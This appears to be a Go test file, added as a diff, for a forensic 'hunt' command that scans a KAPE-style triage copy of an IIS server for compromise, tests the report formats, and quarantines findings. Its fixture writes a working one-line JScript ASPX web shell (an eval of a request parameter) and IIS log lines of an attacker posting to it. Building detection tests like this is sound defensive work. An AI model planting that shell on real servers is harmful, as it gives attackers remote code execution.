@@ -1,0 +1,85 @@
+package app
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// writeTree lays out a tiny triage copy (KAPE style, C/…).
+func writeTree(t *testing.T, files map[string]string) string {
+	t.Helper()
+	root := t.TempDir()
+	for p, body := range files {
+		full := filepath.Join(root, filepath.FromSlash(p))
+		os.MkdirAll(filepath.Dir(full), 0o755)
+		if err := os.WriteFile(full, []byte(body), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return root
+}
+
+const iisHeader = "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2021-01-02 00:00:00\r\n" +
+	"#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n"
+
+func TestHuntCommand(t *testing.T) {
+	shell := `<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>`
+	compromised := writeTree(t, map[string]string{
+		"C/inetpub/wwwroot/aspnet_client/system_web/Ab3dE7gH.aspx": shell,
+		"C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log": iisHeader +
+			"2021-01-02 10:00:00 10.0.0.5 GET /owa/auth/logon.aspx - 443 - 198.51.100.1 Mozilla/5.0 - 200 0 0 10\r\n" +
+			"2021-03-03 02:17:00 10.0.0.5 POST /aspnet_client/system_web/Ab3dE7gH.aspx - 443 - 139.162.202.236 Mozilla/5.0 - 200 0 0 10\r\n",
+	})
+	out, errOut, code := run(t, "", "hunt", "--root", compromised)
+	if code != ExitFindings || !strings.HasPrefix(out, "COMPROMISED") || !strings.Contains(out, "Ab3dE7gH.aspx") {
+		t.Fatalf("compromised tree: exit %d\n%s\n%s", code, out, errOut)
+	}
+	jsonOut, _, _ := run(t, "", "hunt", "--root", compromised, "--format", "json")
+	var rep struct {
+		Verdict  string
+		Findings []struct{ Grade, Path string }
+		Coverage []struct{ Source string }
+	}
+	if err := json.Unmarshal([]byte(jsonOut), &rep); err != nil || rep.Verdict != "compromised" || len(rep.Coverage) == 0 {
+		t.Fatalf("json: %v %+v", err, rep)
+	}
+	for _, f := range []string{"html", "sarif", "csv", "timeline-csv"} {
+		if _, errOut, code := run(t, "", "hunt", "--root", compromised, "--format", f, "-o", filepath.Join(t.TempDir(), "r")); code != ExitFindings {
+			t.Errorf("--format %s: exit %d %s", f, code, errOut)
+		}
+	}
+
+	// Quarantine: a dry run moves nothing; --yes moves the shell, keeps a manifest.
+	q := filepath.Join(t.TempDir(), "q")
+	shellPath := filepath.Join(compromised, "C", "inetpub", "wwwroot", "aspnet_client", "system_web", "Ab3dE7gH.aspx")
+	_, errOut, _ = run(t, "", "hunt", "--root", compromised, "--quarantine", q)
+	if _, err := os.Stat(shellPath); err != nil || !strings.Contains(errOut, "dry run") {
+		t.Fatalf("dry run moved the file or said nothing: %v\n%s", err, errOut)
+	}
+	_, errOut, _ = run(t, "", "hunt", "--root", compromised, "--quarantine", q, "--yes")
+	if _, err := os.Stat(shellPath); !os.IsNotExist(err) {
+		t.Errorf("web shell still in place after --yes:\n%s", errOut)
+	}
+	if b, err := os.ReadFile(filepath.Join(q, "manifest.json")); err != nil || !strings.Contains(string(b), "Ab3dE7gH.aspx") {
+		t.Errorf("manifest: %v %s", err, b)
+	}
+
+	clean := writeTree(t, map[string]string{
+		"C/inetpub/logs/LogFiles/W3SVC1/u_ex210102.log": iisHeader +
+			"2021-01-02 10:00:00 10.0.0.5 GET /owa/auth/logon.aspx - 443 - 198.51.100.1 Mozilla/5.0 - 200 0 0 10\r\n",
+	})
+	out, errOut, code = run(t, "", "hunt", "--root", clean)
+	if code == ExitFindings || !strings.HasPrefix(out, "CLEAN") {
+		t.Errorf("clean tree: exit %d\n%s\n%s", code, out, errOut)
+	}
+
+	for _, args := range [][]string{{"hunt"}, {"hunt", "--root", "/nonexistent"}, {"hunt", "--root", clean, "--format", "pdf"},
+		{"hunt", "--root", clean, "--since", "yesterday"}, {"hunt", "--root", clean, "--yes"}} {
+		if _, errOut, code := run(t, "", args...); code != ExitUsage {
+			t.Errorf("%v: exit %d, want 2 (%s)", args, code, errOut)
+		}
+	}
+}
